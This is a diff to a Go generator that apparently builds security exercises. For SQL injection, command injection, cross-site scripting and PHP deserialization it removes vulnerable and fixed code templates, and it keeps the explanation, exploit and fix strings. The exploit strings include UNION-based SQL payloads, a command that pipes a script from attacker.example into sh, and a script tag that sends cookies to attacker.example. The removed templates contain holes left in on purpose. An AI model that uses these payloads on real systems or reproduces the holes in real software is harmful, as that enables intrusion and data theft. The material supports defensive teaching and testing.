@@ -4,47 +4,8 @@ func injectionGenerators() []Generator {
 	return []Generator{
 		{
 			Archetype: "sql-injection", Language: "python", Framework: "flask",
-			Levels:   []Difficulty{Beginner, Intermediate, RealWorldEnterprise},
-			FilePath: "app/routes/{{.Entities}}.py",
-			Vulnerable: `import sqlite3
-
-from flask import Flask, jsonify, request
-
-app = Flask(__name__)
-DB_PATH = "/var/lib/app/{{.Table}}.db"
-
-
-@app.route("{{.Endpoint}}")
-def {{.FuncSnake}}():
-    {{.Param}} = request.args.get("{{.Param}}", "")
-    conn = sqlite3.connect(DB_PATH)
-    try:
-        sql = "SELECT id, {{.Field}} FROM {{.Table}} WHERE {{.Param}} = '" + {{.Param}} + "'"⟪v⟫
-        rows = conn.execute(sql).fetchall()⟪v⟫
-    finally:
-        conn.close()
-    return jsonify([{"id": r[0], "{{.Field}}": r[1]} for r in rows])
-`,
-			Secure: `import sqlite3
-
-from flask import Flask, jsonify, request
-
-app = Flask(__name__)
-DB_PATH = "/var/lib/app/{{.Table}}.db"
-
-
-@app.route("{{.Endpoint}}")
-def {{.FuncSnake}}():
-    {{.Param}} = request.args.get("{{.Param}}", "")
-    conn = sqlite3.connect(DB_PATH)
-    try:
-        rows = conn.execute(
-            "SELECT id, {{.Field}} FROM {{.Table}} WHERE {{.Param}} = ?", ({{.Param}},)
-        ).fetchall()
-    finally:
-        conn.close()
-    return jsonify([{"id": r[0], "{{.Field}}": r[1]} for r in rows])
-`,
+			Levels:        []Difficulty{Beginner, Intermediate, RealWorldEnterprise},
+			FilePath:      "app/routes/{{.Entities}}.py",
 			Explanation:   "The {{.Param}} query parameter is concatenated into the SQL text of {{.FuncSnake}}, so a quote in it ends the string literal and the rest is parsed as SQL.",
 			Exploit:       "GET {{.Endpoint}}?{{.Param}}=x'+UNION+SELECT+name,sql+FROM+sqlite_master-- returns the schema; further UNION queries read any table of the database.",
 			Fix:           "Pass {{.Param}} as a bound parameter (the ? placeholder) so the driver sends it as data, never as SQL.",
@@ -53,58 +14,8 @@ def {{.FuncSnake}}():
 		},
 		{
 			Archetype: "sql-injection", Language: "java", Framework: "spring-boot",
-			Levels:   []Difficulty{Intermediate, Advanced},
-			FilePath: "src/main/java/com/example/{{.Entities}}/{{.EntityPascal}}Controller.java",
-			Vulnerable: `package com.example.{{.Entities}};
-
-import java.util.List;
-import java.util.Map;
-
-import org.springframework.jdbc.core.JdbcTemplate;
-import org.springframework.web.bind.annotation.GetMapping;
-import org.springframework.web.bind.annotation.RequestParam;
-import org.springframework.web.bind.annotation.RestController;
-
-@RestController
-public class {{.EntityPascal}}Controller {
-    private final JdbcTemplate jdbc;
-
-    public {{.EntityPascal}}Controller(JdbcTemplate jdbc) {
-        this.jdbc = jdbc;
-    }
-
-    @GetMapping("{{.Endpoint}}")
-    public List<Map<String, Object>> {{.Func}}(@RequestParam String {{.Param}}) {
-        String sql = "SELECT id, {{.Field}} FROM {{.Table}} WHERE {{.Param}} = '" + {{.Param}} + "' ORDER BY id";⟪v⟫
-        return jdbc.queryForList(sql);⟪v⟫
-    }
-}
-`,
-			Secure: `package com.example.{{.Entities}};
-
-import java.util.List;
-import java.util.Map;
-
-import org.springframework.jdbc.core.JdbcTemplate;
-import org.springframework.web.bind.annotation.GetMapping;
-import org.springframework.web.bind.annotation.RequestParam;
-import org.springframework.web.bind.annotation.RestController;
-
-@RestController
-public class {{.EntityPascal}}Controller {
-    private final JdbcTemplate jdbc;
-
-    public {{.EntityPascal}}Controller(JdbcTemplate jdbc) {
-        this.jdbc = jdbc;
-    }
-
-    @GetMapping("{{.Endpoint}}")
-    public List<Map<String, Object>> {{.Func}}(@RequestParam String {{.Param}}) {
-        return jdbc.queryForList(
-                "SELECT id, {{.Field}} FROM {{.Table}} WHERE {{.Param}} = ? ORDER BY id", {{.Param}});
-    }
-}
-`,
+			Levels:        []Difficulty{Intermediate, Advanced},
+			FilePath:      "src/main/java/com/example/{{.Entities}}/{{.EntityPascal}}Controller.java",
 			Explanation:   "{{.EntityPascal}}Controller.{{.Func}} builds its SQL by concatenating the {{.Param}} request parameter, and JdbcTemplate.queryForList(String) executes the text as given.",
 			Exploit:       "GET {{.Endpoint}}?{{.Param}}=' OR '1'='1 lists every row of {{.Table}}; a stacked UNION SELECT reads other tables such as users.",
 			Fix:           "Use the queryForList(sql, args...) overload with a ? placeholder so {{.Param}} is bound as a value.",
@@ -113,56 +24,8 @@ public class {{.EntityPascal}}Controller {
 		},
 		{
 			Archetype: "os-command-injection", Language: "go", Framework: "net-http",
-			Levels:   []Difficulty{Beginner, Advanced, RealWorldEnterprise},
-			FilePath: "internal/{{.Entities}}/archive.go",
-			Vulnerable: `package {{.Entities}}
-
-import (
-	"net/http"
-	"os/exec"
-)
-
-// {{.FuncPascal}} lists the archived {{.Entities}} of the requested {{.Param}}.
-func {{.FuncPascal}}(w http.ResponseWriter, r *http.Request) {
-	{{.Param}} := r.URL.Query().Get("{{.Param}}")
-	cmd := exec.CommandContext(r.Context(), "sh", "-c", "tar -tzf /srv/archive/{{.Entities}}-"+{{.Param}}+".tar.gz")⟪v⟫
-	out, err := cmd.Output()
-	if err != nil {
-		http.Error(w, "listing failed", http.StatusInternalServerError)
-		return
-	}
-	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
-	_, _ = w.Write(out)
-}
-`,
-			Secure: `package {{.Entities}}
-
-import (
-	"net/http"
-	"os/exec"
-	"path/filepath"
-	"regexp"
-)
-
-var valid{{.ParamPascal}} = regexp.MustCompile("^[a-z0-9-]{1,32}$")
-
-// {{.FuncPascal}} lists the archived {{.Entities}} of the requested {{.Param}}.
-func {{.FuncPascal}}(w http.ResponseWriter, r *http.Request) {
-	{{.Param}} := r.URL.Query().Get("{{.Param}}")
-	if !valid{{.ParamPascal}}.MatchString({{.Param}}) {
-		http.Error(w, "invalid {{.Param}}", http.StatusBadRequest)
-		return
-	}
-	archive := filepath.Join("/srv/archive", "{{.Entities}}-"+{{.Param}}+".tar.gz")
-	out, err := exec.CommandContext(r.Context(), "tar", "-tzf", archive).Output()
-	if err != nil {
-		http.Error(w, "listing failed", http.StatusInternalServerError)
-		return
-	}
-	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
-	_, _ = w.Write(out)
-}
-`,
+			Levels:        []Difficulty{Beginner, Advanced, RealWorldEnterprise},
+			FilePath:      "internal/{{.Entities}}/archive.go",
 			Explanation:   "{{.FuncPascal}} hands a string containing the {{.Param}} query parameter to sh -c, so shell metacharacters in it run further commands with the service's privileges.",
 			Exploit:       "GET {{.Endpoint}}?{{.Param}}=x;curl+-s+http://attacker.example/s|sh makes the handler download and run a script.",
 			Fix:           "Validate {{.Param}} against an allow-list pattern and run tar directly with an argument vector instead of through a shell.",
@@ -171,39 +34,8 @@ func {{.FuncPascal}}(w http.ResponseWriter, r *http.Request) {
 		},
 		{
 			Archetype: "cross-site-scripting", Language: "javascript", Framework: "express",
-			Levels:   []Difficulty{Beginner, Intermediate},
-			FilePath: "routes/{{.Entities}}.js",
-			Vulnerable: `const express = require("express");
-
-const router = express.Router();
-
-router.get("{{.Endpoint}}/search", async (req, res) => {
-  const {{.Param}} = String(req.query.{{.Param}} || "");
-  const rows = await req.app.locals.db.{{.Func}}({ {{.Param}} });
-  const items = rows.map((row) => "<li>" + row.{{.Field}} + "</li>").join("");⟪v⟫
-  res.type("html");
-  res.send("<h1>{{.EntitiesPascal}} for " + {{.Param}} + "</h1><ul>" + items + "</ul>");⟪v⟫
-});
-
-module.exports = router;
-`,
-			Secure: `const express = require("express");
-
-const router = express.Router();
-
-const HTML_ESCAPES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
-const escapeHtml = (value) => String(value).replace(/[&<>"']/g, (c) => HTML_ESCAPES[c]);
-
-router.get("{{.Endpoint}}/search", async (req, res) => {
-  const {{.Param}} = String(req.query.{{.Param}} || "");
-  const rows = await req.app.locals.db.{{.Func}}({ {{.Param}} });
-  const items = rows.map((row) => "<li>" + escapeHtml(row.{{.Field}}) + "</li>").join("");
-  res.type("html");
-  res.send("<h1>{{.EntitiesPascal}} for " + escapeHtml({{.Param}}) + "</h1><ul>" + items + "</ul>");
-});
-
-module.exports = router;
-`,
+			Levels:        []Difficulty{Beginner, Intermediate},
+			FilePath:      "routes/{{.Entities}}.js",
 			Explanation:   "The handler writes the {{.Param}} query parameter and stored {{.Field}} values into HTML without encoding, so markup in either runs as script in the victim's browser.",
 			Exploit:       "A link to {{.Endpoint}}/search?{{.Param}}=<script>fetch('//attacker.example/?c='+document.cookie)</script> sends the victim's cookies to the attacker when opened.",
 			Fix:           "HTML-encode every untrusted value before it is written into the page (or render through a template engine that escapes by default).",
@@ -212,53 +44,8 @@ module.exports = router;
 		},
 		{
 			Archetype: "insecure-deserialization", Language: "php", Framework: "plain-php",
-			Levels:   []Difficulty{Intermediate, Expert},
-			FilePath: "src/{{.EntityPascal}}Preferences.php",
-			Vulnerable: `<?php
-
-declare(strict_types=1);
-
-final class {{.EntityPascal}}Preferences
-{
-    public string ${{.Field}} = '';
-    public string ${{.Param}} = '';
-}
-
-function {{.Func}}Preferences(): {{.EntityPascal}}Preferences
-{
-    $raw = base64_decode($_COOKIE['{{.Entity}}_prefs'] ?? '', true);
-    if ($raw === false || $raw === '') {
-        return new {{.EntityPascal}}Preferences();
-    }
-    $prefs = unserialize($raw);⟪v⟫
-    return $prefs instanceof {{.EntityPascal}}Preferences ? $prefs : new {{.EntityPascal}}Preferences();
-}
-`,
-			Secure: `<?php
-
-declare(strict_types=1);
-
-final class {{.EntityPascal}}Preferences
-{
-    public string ${{.Field}} = '';
-    public string ${{.Param}} = '';
-}
-
-function {{.Func}}Preferences(): {{.EntityPascal}}Preferences
-{
-    $prefs = new {{.EntityPascal}}Preferences();
-    try {
-        $data = json_decode($_COOKIE['{{.Entity}}_prefs'] ?? '{}', true, 4, JSON_THROW_ON_ERROR);
-    } catch (JsonException $e) {
-        return $prefs;
-    }
-    if (is_array($data)) {
-        $prefs->{{.Field}} = is_string($data['{{.Field}}'] ?? null) ? $data['{{.Field}}'] : '';
-        $prefs->{{.Param}} = is_string($data['{{.Param}}'] ?? null) ? $data['{{.Param}}'] : '';
-    }
-    return $prefs;
-}
-`,
+			Levels:        []Difficulty{Intermediate, Expert},
+			FilePath:      "src/{{.EntityPascal}}Preferences.php",
 			Explanation:   "unserialize() runs on a cookie the client controls; it instantiates any class the attacker names and triggers its magic methods (__wakeup, __destruct) before the instanceof check.",
 			Exploit:       "The attacker sets {{.Entity}}_prefs to a base64 serialized gadget chain from a library the application autoloads (for example a logger whose __destruct writes a file) and gains file write or code execution.",
 			Fix:           "Store the preferences as JSON and copy only the expected string fields; never unserialize client data.",
